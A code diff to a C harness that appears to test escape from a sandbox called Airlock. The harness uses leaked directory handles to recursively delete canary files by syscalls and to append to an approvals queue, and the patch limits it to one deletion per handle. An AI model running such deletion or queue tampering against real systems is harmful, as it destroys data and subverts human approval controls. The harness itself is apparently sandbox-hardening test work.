@@ -24,11 +24,15 @@
 
 static const char *canary, *queue, *approvers;
 static int damage;
+// Each unlink of a canary file is held for a second under Airlock: one per handle proves
+// the point and keeps the attack short.
+static int budget;
 
 static const char *en(void) { return strerrorname_np(errno); }
 
 // Remove everything beneath dirfd/name, then name itself (rm -rf by syscalls).
 static void remove_tree(int parent, const char *name) {
+    if (budget <= 0) return;
     int fd = openat(parent, name, O_RDONLY | O_DIRECTORY | O_NOFOLLOW | O_CLOEXEC);
     if (fd >= 0) {
         DIR *d = fdopendir(fd);
@@ -37,10 +41,12 @@ static void remove_tree(int parent, const char *name) {
             if (strcmp(e->d_name, ".") && strcmp(e->d_name, ".."))
                 remove_tree(dirfd(d), e->d_name);
         if (d) closedir(d);
+        if (budget-- <= 0) return;
         int r = unlinkat(parent, name, AT_REMOVEDIR);
         printf("  rmdir %s -> %s\n", name, r == 0 ? "OK" : en());
         if (r == 0) damage++;
     } else {
+        budget--;
         int r = unlinkat(parent, name, 0);
         printf("  unlink %s -> %s\n", name, r == 0 ? "OK" : en());
         if (r == 0) damage++;
@@ -114,6 +120,7 @@ static void use(int fd, const char *where) {
         else if (strncmp(canary, link, len) == 0 && canary[len] == '/') rel = canary + len + 1;
         if (!rel) return;
         printf("  leads to the canary as %s\n", rel);
+        budget = 1;
         remove_tree(fd, rel);
         if (strcmp(link, "/") == 0) {
             int q = openat(fd, queue + 1, O_WRONLY | O_APPEND | O_CLOEXEC);
